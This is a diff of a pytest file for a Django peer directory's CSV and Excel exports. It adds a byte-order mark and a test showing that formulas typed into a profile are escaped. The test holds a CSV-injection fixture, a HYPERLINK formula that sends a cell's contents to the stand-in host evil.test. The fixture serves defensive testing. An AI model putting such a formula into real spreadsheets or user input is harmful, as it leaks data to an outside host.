@@ -360,10 +360,10 @@ def test_the_export_runs_as_many_queries_for_many_peers_as_for_a_few(client, fmt
     assert len(many) == len(few)
 
 
-# The CSV export as it has always been written: an administrator's (with party and
-# diversity), and a principal adviser's (without them).
+# The CSV export as it has always been written, after a byte-order mark: an
+# administrator's (with party and diversity), and a principal adviser's (without them).
 EXPORTED_FOR_ADMINISTRATORS = (
-    "email,full_name,kind,phone,home_council_code,home_role,party,status,"
+    "\ufeffemail,full_name,kind,phone,home_council_code,home_role,party,status,"
     "capacity_engagements,capacity_days,skills,council_types,accreditation,accredited_on,"
     "accreditation_expires_on,experience,gender,disability,ethnicity\r\n"
     "ann@example.org,Ann Able,officer,01234 567890,XAA,chief_executive,,active,4,12,"
@@ -372,7 +372,7 @@ EXPORTED_FOR_ADMINISTRATORS = (
     "bob@example.org,Bob Baker,member,,XAB,leader,Lab,paused,2,6,,,,,,,woman,no,white_british\r\n"
 )
 EXPORTED_FOR_ADVISERS = (
-    "email,full_name,kind,phone,home_council_code,home_role,status,"
+    "\ufeffemail,full_name,kind,phone,home_council_code,home_role,status,"
     "capacity_engagements,capacity_days,skills,council_types,accreditation,accredited_on,"
     "accreditation_expires_on,experience\r\n"
     "ann@example.org,Ann Able,officer,01234 567890,XAA,chief_executive,active,4,12,"
@@ -433,3 +433,48 @@ def test_the_csv_export_writes_the_same_file_as_before(client, role, expected):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"].startswith('attachment; filename="peers-')
     assert response.getvalue().decode() == expected
+
+
+HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Click for CV")'
+
+
+@pytest.mark.parametrize("role", [Role.ADMINISTRATOR, Role.PRINCIPAL_ADVISER])
+def test_formulas_a_peer_types_into_their_profile_are_inert_in_both_exports(client, role):
+    import datetime
+
+    user = UserFactory(role=Role.PEER)
+    peer = PeerFactory(user=user, email=user.email, full_name="Siân Jones")
+    peer.accreditations.create(name="Training", completed_on=datetime.date(2024, 5, 1))
+    client.force_login(user)
+    edit = {
+        "phone": "=1+2",
+        "capacity_engagements": "3",
+        "capacity_days": "9",
+        "experience": HYPERLINK,
+        "version": peer.version,
+    }
+    assert client.post(reverse("peers:my-profile-edit"), edit).status_code == 302
+    client.force_login(UserFactory(role=role))
+
+    content = client.get(reverse("peers:export-csv")).getvalue()
+    workbook = load_workbook(io.BytesIO(client.get(reverse("peers:export-xlsx")).getvalue()))
+
+    assert content.startswith(b"\xef\xbb\xbf")
+    [row] = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
+    assert (row["full_name"], row["phone"], row["experience"]) == (
+        "Siân Jones",
+        "'=1+2",
+        "'" + HYPERLINK,
+    )
+    assert row["accredited_on"] == "2024-05-01"
+    sheet = workbook["Peers"]
+    assert sheet.freeze_panes == "A2"
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for column, typed in (("phone", "=1+2"), ("experience", HYPERLINK)):
+        assert cells[column].data_type == "s"
+        assert cells[column].value == "'" + typed
+    assert cells["full_name"].value == "Siân Jones"
+    assert cells["accredited_on"].is_date
+    assert cells["accredited_on"].value == datetime.datetime(2024, 5, 1)
+    assert cells["capacity_days"].value == 9
